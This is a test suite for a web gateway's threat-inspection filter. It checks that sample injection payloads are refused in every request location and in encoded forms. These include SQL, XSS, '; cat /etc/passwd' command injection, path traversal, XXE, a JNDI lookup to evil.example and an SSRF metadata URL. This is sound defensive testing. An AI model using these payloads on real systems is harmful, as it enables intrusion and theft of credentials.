import assert from 'node:assert/strict'
import { test } from 'node:test'
import { startBackend } from '../harness/backend.ts'
import { startGateway } from '../harness/gateway.ts'
import type { Lifetime } from '../harness/lifetime.ts'
import { mistakesOf } from '../harness/mistakes.ts'
import { openYaml } from '../harness/open.ts'
import { startExample } from '../harness/page-example.ts'
import { problemOf } from '../harness/problem.ts'

async function start(t: Lifetime, threats = 'block', identify = 'anonymous') {
  const backend = await startBackend(t)
  const config = openYaml({ to: backend.url, identify, api: [`inspect: { threats: ${threats} }`] })
  const gateway = await startGateway(t, config)
  const send = (path: string, init: RequestInit = {}) => fetch(`${gateway.url}/shop/${path}`, init)
  const post = (body: string | Uint8Array, type: string) =>
    send('', { method: 'POST', body, headers: { 'Content-Type': type } })
  return { backend, gateway, send, post }
}

type Stand = Awaited<ReturnType<typeof start>>

/** A sample of each family. */
const samples = {
  sql: '1 union select password from users',
  xss: '<script>alert(1)</script>',
  php: "<?php system('id');",
  command: '; cat /etc/passwd',
  path: '../../../etc/passwd',
  template: "{{''.__class__.__mro__}}",
  ssi: '<!--#exec cmd="id" -->',
  xpath: "x' or name()='username' or 'x'='y",
  nosql: '{"$gt": ""}',
  ldap: '*)(uid=*))(|(uid=*',
  xxe: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
  jndi: '${jndi:ldap://evil.example/a}',
  deserialisation: 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
  ssrf: 'http://169.254.169.254/latest/meta-data/',
} as const

const form = 'application/x-www-form-urlencoded'
const boundary = 'b0undary'
const multipart = (...parts: readonly string[]) =>
  `${parts.map(part => `--${boundary}\r\n${part}`).join('\r\n')}\r\n--${boundary}--\r\n`
const escapedXml = (text: string) => text.replace(/[&<>"]/g, mark => `&#${mark.charCodeAt(0)};`)

/** Every place that a value can stand in, and a call that has it there. */
const places: Readonly<Record<string, (stand: Stand, value: string) => Promise<Response>>> = {
  'a query value': ({ send }, value) => send(`?q=${encodeURIComponent(value)}`),
  'a query name': ({ send }, value) => send(`?${encodeURIComponent(value)}=1`),
  'a field': ({ send }, value) => send('', { headers: { 'X-Note': value } }),
  'a cookie': ({ send }, value) => send('', { headers: { Cookie: `a=1; note=${encodeURIComponent(value)}` } }),
  'a JSON value': ({ post }, value) => post(JSON.stringify({ a: [1, { b: value }] }), 'application/json'),
  'a JSON key': ({ post }, value) => post(JSON.stringify({ [value]: 1 }), 'application/json'),
  'a JSON document of its own kind': ({ post }, value) => post(JSON.stringify(value), 'application/vnd.shop+json'),
  'a form value': ({ post }, value) => post(`a=1&b=${encodeURIComponent(value)}`, form),
  'a form name': ({ post }, value) => post(`${encodeURIComponent(value)}=1`, form),
  'a field of a multipart form': ({ post }, value) =>
    post(
      multipart(`Content-Disposition: form-data; name="a"\r\n\r\n${value}`),
      `multipart/form-data; boundary=${boundary}`,
    ),
  'XML text': ({ post }, value) => post(`<a><b>${escapedXml(value)}</b></a>`, 'application/xml'),
  'an XML attribute': ({ post }, value) => post(`<a b="${escapedXml(value)}"/>`, 'text/xml'),
  'plain text': ({ post }, value) => post(value, 'text/plain'),
  'a line of JSON': ({ post }, value) => post(`{"a":1}\n${JSON.stringify({ a: [value] })}\n`, 'application/x-ndjson'),
  'a file of text, whatever it calls itself': ({ post }, value) =>
    post(
      multipart(
        `Content-Disposition: form-data; name="f"; filename="a.png"\r\nContent-Type: image/png\r\n\r\nHello,\n${value}`,
      ),
      `multipart/form-data; boundary=${boundary}`,
    ),
}

for (const [place, call] of Object.entries(places)) {
  test(`[W23] an attack of each kind in ${place} is a 400, and the backend is not called`, async t => {
    const stand = await start(t)
    for (const [family, value] of Object.entries(samples)) {
      const response = await call(stand, value)
      assert.equal(response.status, 400, `${family} ${value}`)
      const { code, stage, ...told } = await problemOf(response)
      assert.deepEqual([code, stage], ['threat-found', 'inspect'])
      assert.deepEqual(Object.keys(told).sort(), ['callId', 'status', 'title', 'type'])
    }
    assert.equal(stand.backend.received.length, 0)
  })
}

test('[W23] an attack in the path is a 400', async t => {
  const { send, backend } = await start(t)
  for (const path of [
    "1'%20or%20'1'='1",
    '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    '.git/config',
    '$%7Bjndi:ldap:%2F%2Fx%2Fa%7D',
  ])
    assert.equal((await send(path)).status, 400, path)
  assert.equal(backend.received.length, 0)
})

test('[W23] an upload that would run on a server is a 400 by its name', async t => {
  const { post, backend } = await start(t)
  const upload = (name: string) =>
    post(
      multipart(
        `Content-Disposition: form-data; name="f"; filename="${name}"\r\nContent-Type: image/png\r\n\r\n\x89PNG`,
      ),
      `multipart/form-data; boundary=${boundary}`,
    )
  for (const name of ['shell.php', 'a.phtml', 'b.jsp', '../../x.png'])
    assert.equal((await upload(name)).status, 400, name)
  assert.equal(backend.received.length, 0)
  assert.equal((await upload('holiday.png')).status, 200)
})

for (const [how, value] of Object.entries({
  'percent-encoded twice': '%2527%2520or%25201%253D1--',
  'in HTML references': '&#60;script&#62;alert(1)&lt;/script>',
  'in escapes of JavaScript': '\\u003cscript\\u003ealert(1)',
  'in overlong UTF-8': '..%c0%af..%c0%afetc%c0%afpasswd',
  'in full width': '＜script＞alert(1)＜/script＞',
  'in mixed case with comments': 'uNiOn/**/aLl/*x*/SeLeCt 1,2',
  'in words that a shell puts together': ";w'h'o\\ami",
  'in base64': Buffer.from('../../../../etc/passwd').toString('base64'),
  'on a new line': 'a\ncat /etc/passwd',
})) {
  test(`[W23] an attack ${how} is found`, async t => {
    const { post, backend } = await start(t)
    assert.equal((await post(JSON.stringify({ a: value }), 'application/json')).status, 400)
    assert.equal(backend.received.length, 0)
  })
}

test("[W23] what people write passes unchanged: O'Brien, R&D, 5 > 3, select a colour", async t => {
  const { post, send, backend } = await start(t)
  const body = JSON.stringify({
    names: ["O'Brien", "Sinead O'Connor", 'Union Square', 'Smith & Sons', 'R&D; sales', 'Drop table lamp, 40 W'],
    texts: [
      '5 > 3',
      'select a colour from the list',
      "it's 10 o'clock -- or later",
      '50% off; more inside',
      '(a) or (b)',
    ],
    'first/last': [
      'https://example.com/a?b=c&d=e#f',
      'ann@example.com',
      '2026-01-02T03:04:05Z',
      '3f2504e0-4f89-11d3-9a0c-0305e82c3301',
    ],
  })
  assert.equal((await post(body, 'application/json')).status, 200)
  assert.equal(backend.received[0]?.body.toString(), body)
  assert.equal((await send("people/O'Brien?q=O%27Brien&sort=-name")).status, 200)
})

test('[W23] an operator adds patterns, which run beside the others', async t => {
  const { send } = await start(
    t,
    '{ mode: block, patterns: [{ name: internal hosts, pattern: "\\\\.corp\\\\.example$" }] }',
  )
  assert.equal((await send('?host=db.corp.example')).status, 400)
  assert.equal((await send('?host=db.example')).status, 200)
  assert.equal((await send('?q=1%27%20or%201=1--')).status, 400)
})

test('a pattern that RE2 cannot run is a mistake of the configuration', async t => {
  const threats = '{ mode: block, patterns: [{ name: x, pattern: "(a)\\\\1" }] }'
  const config = openYaml({ to: 'http://127.0.0.1:1', api: [`inspect: { threats: ${threats} }`] })
  assert.match((await mistakesOf(t, config)).join(), /no pattern of RE2/)
})

test('[W23] in mode report the call goes on, and its record says family, place and rule, never the value', async t => {
  const { send, post, backend, gateway } = await start(t, 'report')
  assert.equal((await send('?id=1%27%20union%20select%20hunter2%20from%20users--')).status, 200)
  assert.equal((await post('{"note":"plain"}', 'application/json')).status, 200)
  assert.equal(backend.received.length, 2)
  const [found, none] = gateway.events
  assert.equal(found?.outcome, 'answered')
  assert.match(found?.findings?.[0]?.reason ?? '', /^sql: .* in query:id$/)
  assert.doesNotMatch(JSON.stringify(found), /hunter2/)
  assert.equal(none?.findings, undefined)
})

test('[W23] a refusal is recorded with family, place and rule, never the value', async t => {
  const { post, gateway } = await start(t)
  await post(JSON.stringify({ items: [{ text: "hunter2' or 1=1--" }] }), 'application/json')
  const [event] = gateway.events
  assert.equal(event?.refusal?.code, 'threat-found')
  assert.match(event?.refusal?.reason ?? '', /^sql: .* in json:\/items\/0\/text$/)
  assert.doesNotMatch(JSON.stringify(event), /hunter2/)
})

test('[W23] every kind of place can be excepted, and nothing beside it is', async t => {
  const at = [
    ...['path', 'query:a', 'query-name', 'header:x-a', 'cookie:a', 'form:a', 'file:a', 'json:/a', 'json-key'],
    ...['xml', 'xml:@a', 'text'],
  ]
  const except = `[${at.map(each => `{ at: "${each}" }`).join(', ')}]`
  const { send, post, backend } = await start(t, `{ mode: block, except: ${except} }`)
  const attack = "1' or '1'='1"
  const coded = encodeURIComponent(attack)
  const file = (name: string) =>
    post(
      multipart(`Content-Disposition: form-data; name="${name}"; filename="x.txt"\r\n\r\n${attack}`),
      `multipart/form-data; boundary=${boundary}`,
    )
  const calls: readonly (readonly [status: number, response: Promise<Response>])[] = [
    [200, send(coded)],
    [200, send(`?a=${coded}`)],
    [400, send(`?b=${coded}`)],
    [200, send(`?${coded}=`)],
    [200, send('', { headers: { 'X-A': attack } })],
    [400, send('', { headers: { 'X-B': attack } })],
    [200, send('', { headers: { Cookie: `a=${coded}` } })],
    [400, send('', { headers: { Cookie: `b=${coded}` } })],
    [200, post(`a=${coded}`, form)],
    [400, post(`b=${coded}`, form)],
    [200, file('a')],
    [400, file('b')],
    [200, post(JSON.stringify({ a: attack, [attack]: 1 }), 'application/json')],
    [400, post(JSON.stringify({ b: attack }), 'application/json')],
    [200, post(`{"a":1}\n${JSON.stringify({ a: attack })}`, 'application/x-ndjson')],
    [200, post(`<x a="${attack}">${attack}</x>`, 'application/xml')],
    [400, post(`<x b="${attack}"/>`, 'application/xml')],
    [200, post(attack, 'text/plain')],
  ]
  for (const [i, [status, response]] of calls.entries()) assert.equal((await response).status, status, `call ${i}`)
  assert.equal(backend.received.length, calls.filter(([status]) => status === 200).length)
})

test('[W23] files that are no text are not looked at, and reach the backend as they came', async t => {
  const { post, backend } = await start(t)
  const picture = `\x89PNG\r\n\x1a\n\0<script>alert(1)</script>' or 1=1--\xff`
  const body = Buffer.from(
    multipart(
      `Content-Disposition: form-data; name="f"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n${picture}`,
    ),
    'latin1',
  )
  assert.equal((await post(body, `multipart/form-data; boundary=${boundary}`)).status, 200)
  assert.deepEqual(backend.received[0]?.body, body)
})

test('[W23] a place can be excepted from some families or all; the others still count', async t => {
  const except = '[{ at: "json:/posts/*/html", families: [xss] }, { at: "query:sql" }]'
  const { post, send } = await start(t, `{ mode: block, except: ${except} }`)
  const html = (text: string) => post(JSON.stringify({ posts: [{ html: text }] }), 'application/json')
  assert.equal((await html('<iframe src="https://maps.example"></iframe>')).status, 200)
  assert.equal((await html("<b>x</b>' union select 1,2--")).status, 400)
  assert.equal((await send('?sql=select%20*%20from%20items')).status, 200)
  assert.equal((await send('?q=select%20*%20from%20items')).status, 400)
})

test('[W23] only the families that are listed are looked for', async t => {
  const { send } = await start(t, '{ mode: block, families: [xss] }')
  assert.equal((await send('?q=1%27%20or%201=1--')).status, 200)
  assert.equal((await send('?q=%3Cscript%3E')).status, 400)
})

test('[W23] each level finds what the ones below find, and more', async t => {
  const stands = []
  for (const level of [1, 2, 3, 4]) stands.push(await start(t, `{ mode: block, level: ${level} }`))
  for (const [value, found] of [
    ['1 union select 2', [400, 400, 400, 400]],
    ['concat(1,2)', [200, 400, 400, 400]],
    ['2.2250738585072011e-308', [200, 200, 400, 400]],
    ['see http://example.com', [200, 200, 200, 400]],
    ["O'Brien & Sons", [200, 200, 200, 200]],
  ] as const) {
    const seen = []
    for (const { send } of stands) seen.push((await send(`?q=${encodeURIComponent(value)}`)).status)
    assert.deepEqual(seen, found, value)
  }
})

test("the caller's own credential is not looked at", async t => {
  const { send } = await start(t, 'block', 'anonymous')
  assert.equal((await send('', { headers: { Authorization: "Custom ' or 1=1--" } })).status, 200)
})

for (const [what, body, type, status] of [
  ['of a type that cannot be read', '\x00\x01', 'application/octet-stream', 415],
  ['in another charset', 'a=1', 'text/plain; charset=utf-7', 415],
  ['that is no JSON', '{"a":', 'application/json', 400],
  ['whose second line is no JSON', '{"a":1}\n{"a":', 'application/x-ndjson', 400],
  ['that is no UTF-8', new Uint8Array([0x22, 0xff, 0x22]), 'application/json', 400],
  ['in parts without a boundary', '--x', 'multipart/form-data', 400],
  ['in parts without an end', '--b\r\n\r\na', 'multipart/form-data; boundary=b', 400],
] as const) {
  test(`a body ${what} is refused, for nobody could look into it`, async t => {
    const { post, backend } = await start(t)
    assert.equal((await post(body, type)).status, status)
    assert.equal(backend.received.length, 0)
  })
}

test('bodies that cannot be read pass where the operator says so', async t => {
  const { post } = await start(t, '{ mode: block, otherBodies: pass }')
  assert.equal((await post('\x00\x01', 'application/octet-stream')).status, 200)
})

test('the example of docs/threats.md refuses what its page says, and lets by what it excepts', async t => {
  const { gateway, backend } = await startExample(t, 'docs/threats.md')
  const post = (html: string) =>
    gateway.call('/shop/', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ posts: [{ html }] }),
    })
  assert.equal((await gateway.call('/shop/?id=1%20union%20select%20password%20from%20users')).status, 400)
  assert.equal((await gateway.call('/shop/?host=db.corp.example')).status, 400)
  assert.equal((await post("' or 1=1--")).status, 400)
  assert.equal(backend.received.length, 0)
  assert.equal((await post('<h1 onclick="go()">Hello</h1>')).status, 200)
})
